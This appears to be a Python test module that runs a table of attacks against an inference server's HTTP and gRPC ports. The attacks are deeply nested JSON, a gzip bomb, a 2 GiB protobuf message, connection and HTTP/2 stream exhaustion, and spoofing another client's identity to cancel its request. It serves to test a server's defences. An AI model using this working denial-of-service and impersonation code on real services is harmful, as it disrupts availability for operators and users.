"""Attacks on the listeners at a server's ports by means that every client has: rows for a table of abuse."""

from __future__ import annotations

import json
import select
import socket
import time
from collections.abc import Mapping
from contextlib import ExitStack
from http.client import HTTPConnection, HTTPException

import grpc  # type: ignore[import-untyped]
from tritonclient.grpc import service_pb2
from tritonclient.grpc.service_pb2_grpc import GRPCInferenceServiceStub

from multilora_wire.headers import CLIENT_HEADER
from trials.doors import GRPC_OPTIONS, TIMEOUT_S, Attack, Doors, answers, infer_request, told
from trials.raw_http2 import RST_STREAM, frames, greet, open_streams

_GENERATE = "/v2/models/generation_unary/generate"
_DEPTH = 200_000
_INFLATED_BYTES = 400 << 20
_NUM_CONNECTIONS = 1100
_HOLD_S = 5.0
_NUM_STREAMS = 10_000
_MESSAGE_BYTES = (1 << 31) - (1 << 16)

VICTIM_REQUEST_ID = "the-victims-request"

VICTIMS_NAME = "0:0:0:0::/64"
"""The proxy's name for a client that connects to it from `::1`."""


def send_deep_json(doors: Doors) -> str:
    """Send 400 kB of brackets to `generate`."""
    return post(doors.http_url, _GENERATE, '{"text_input":' + "[" * _DEPTH + "]" * _DEPTH + "}")


def post(url: str, path: str, body: str, headers: Mapping[str, str] | None = None) -> str:
    """The status of the answer to JSON, in words. url: `host:port`."""
    connection = HTTPConnection(url, timeout=TIMEOUT_S)
    try:
        connection.request("POST", path, body, {"Content-Type": "application/json", **(headers or {})})
        return f"HTTP {connection.getresponse().status}"
    except (OSError, HTTPException) as error:
        return f"disconnected ({type(error).__name__})"
    finally:
        connection.close()


def send_compressed_zeros(doors: Doors) -> str:
    """Send 400 MiB of zeros, an adapter's weights, in less than a MiB of gzip."""
    request = service_pb2.ModelInferRequest(model_name="generation_unary")
    request.inputs.add(name="lora_weights", datatype="FP16", shape=[1, 1, _INFLATED_BYTES // 2])
    request.raw_input_contents.append(bytes(_INFLATED_BYTES))
    with grpc.insecure_channel(doors.grpc_url, [("grpc.max_send_message_length", -1)]) as channel:
        stub = GRPCInferenceServiceStub(channel)
        try:
            stub.ModelInfer(request, timeout=TIMEOUT_S, compression=grpc.Compression.Gzip)
        except grpc.RpcError as error:
            return f"{error.code().name}: {error.details()}"
    return "answered"


def send_a_message_of_two_gigabytes(doors: Doors) -> str:
    """Send one message as long as protobuf allows, of a field that no server knows."""
    # Field 1000, so many bytes: a tag and a length as varints.
    message = b"\xc2\x3e" + _varint(_MESSAGE_BYTES) + bytes(_MESSAGE_BYTES)
    with grpc.insecure_channel(doors.grpc_url, GRPC_OPTIONS) as channel:
        send = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer", lambda raw: raw, lambda raw: raw)
        try:
            send(message, timeout=TIMEOUT_S)
        except grpc.RpcError as error:
            return f"{error.code().name}: {error.details()}"
    return "answered"


def hold_idle_connections(doors: Doors) -> str:
    """Hold 1,100 connections to each port that never send a byte, for some seconds."""
    return hold_connections(doors.http_url, doors.grpc_url)


def hold_connections(*urls: str) -> str:
    """Open 1,100 idle connections to each `host:port`, and hold them."""
    with ExitStack() as stack:
        idle = [
            stack.enter_context(socket.create_connection((host, int(port))))
            for url in urls
            for host, port in [url.split(":")]
            for _ in range(_NUM_CONNECTIONS)
        ]
        time.sleep(_HOLD_S)
        return f"{_num_closed(idle)} of {len(idle)} closed"


def open_ten_thousand_streams(doors: Doors) -> str:
    """Hold 10,000 streams without a request on one connection until the door closes it or is silent for seconds."""
    host, port = doors.grpc_url.split(":")
    num_refused = 0
    with socket.create_connection((host, int(port))) as connection:
        greet(connection)
        try:
            open_streams(connection, _NUM_STREAMS)
            connection.settimeout(_HOLD_S)
            for kind, _, _ in frames(connection):
                num_refused += kind == RST_STREAM
        except TimeoutError:
            return f"{num_refused} of {_NUM_STREAMS} refused"
        except (ConnectionResetError, BrokenPipeError):
            pass  # A door may close the connection of a client that goes on after many refusals.
    return f"connection closed after {num_refused} of {_NUM_STREAMS} refused"


def stop_the_victims_request_in_its_name(doors: Doors) -> str:
    """Stop the victim's request by its id, with its name in a header, in a parameter and in the body of `generate`."""
    in_header = infer_request("generation_unary", VICTIM_REQUEST_ID, stop=[[True]])
    in_parameter = infer_request("generation_unary", VICTIM_REQUEST_ID, stop=[[True]])
    in_parameter.parameters[CLIENT_HEADER].string_param = VICTIMS_NAME
    body = json.dumps({"id": VICTIM_REQUEST_ID, "stop": True, CLIENT_HEADER: VICTIMS_NAME})
    end, seen = time.monotonic() + _HOLD_S, []
    while time.monotonic() < end:
        seen.append("header: " + answers(doors, [in_header], clients=[VICTIMS_NAME]))
        seen.append("parameter: " + answers(doors, [in_parameter]))
        seen.append("body: " + post(doors.http_url, _GENERATE, body, {CLIENT_HEADER: VICTIMS_NAME}))
    return told(seen)


def _varint(number: int) -> bytes:
    """A number as protobuf writes it: seven bits a byte, the lowest first."""
    low, high = number & 0x7F, number >> 7
    return bytes([low | 0x80]) + _varint(high) if high else bytes([low])


def _num_closed(connections: list[socket.socket]) -> int:
    """The number of connections that the peer closed. gRPC servers speak first: open ones may have bytes to read."""
    poll = select.poll()
    for connection in connections:
        poll.register(connection, select.POLLRDHUP)
    return len(poll.poll(0))


DOOR_ATTACKS: Mapping[str, Attack] = {
    "JSON 200,000 deep to HTTP generate": send_deep_json,
    "gRPC, 400 MiB of zeros in gzip": send_compressed_zeros,
    "1,100 idle connections to each port": hold_idle_connections,
    "10,000 idle streams on a connection": open_ten_thousand_streams,
    "a gRPC message of 2 GiB": send_a_message_of_two_gigabytes,
    "stop by the victim's id in its name": stop_the_victims_request_in_its_name,
}
"""The attacks by their names in a table."""
